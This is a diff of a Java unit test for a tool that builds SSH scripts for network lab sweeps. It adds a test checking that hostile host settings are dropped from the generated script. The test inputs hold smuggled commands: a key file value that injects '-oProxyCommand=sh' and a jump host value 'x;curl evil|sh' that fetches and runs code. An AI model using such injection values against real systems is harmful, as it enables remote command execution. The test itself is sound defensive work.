@@ -48,7 +48,22 @@ class PlanScriptTest {
                 new TestPlan.Sweep(TestPlan.SweepKind.MTU, List.of("1500", "9000")));
         String script = PlanScript.of(p, l -> Optional.empty());
         assertTrue(script.contains("# point mtu=9000\n"), script);
-        assertTrue(script.contains("ssh me@198.18.3.11 -- 'sudo -n -- ip link set dev data0 mtu 9000'"), script);
+        assertTrue(script.contains("ssh me@198.18.3.11 -- 'sudo -n -- linklab-mtu data0 9000'"), script);
         assertTrue(script.contains("ssh root@198.18.3.12 -- 'ip link set dev data0 mtu 9000'"), script);
+    }
+
+    @Test
+    void aJumpOrKeyFileThatIsNoPlainValueIsLeftOutOfTheScript() {
+        io.linklab.model.HostSpec hostile = new io.linklab.model.HostSpec(
+                "h1", "h1", "198.18.3.11", "me", 22, "/k\n-oProxyCommand=sh", "x;curl evil|sh", List.of(), 0, 0);
+        io.linklab.model.HostSpec fine = new io.linklab.model.HostSpec(
+                "h2", "h2", "198.18.3.12", "root", 22, "~/.ssh/lab", "admin@bastion:2200,gw", List.of(), 0, 0);
+        String script = PlanScript.of(
+                plan("me@198.18.3.11", "root@198.18.3.12", 1, null),
+                l -> Optional.of(l.startsWith("me@") ? hostile : fine));
+        assertTrue(!script.contains("curl") && !script.contains("ProxyCommand"), script);
+        assertTrue(script.contains("# me@198.18.3.11: its jump host is left out"), script);
+        assertTrue(script.contains("# me@198.18.3.11: its key file is left out"), script);
+        assertTrue(script.contains("ssh -i '~/.ssh/lab' -J admin@bastion:2200,gw root@198.18.3.12 -- "), script);
     }
 }
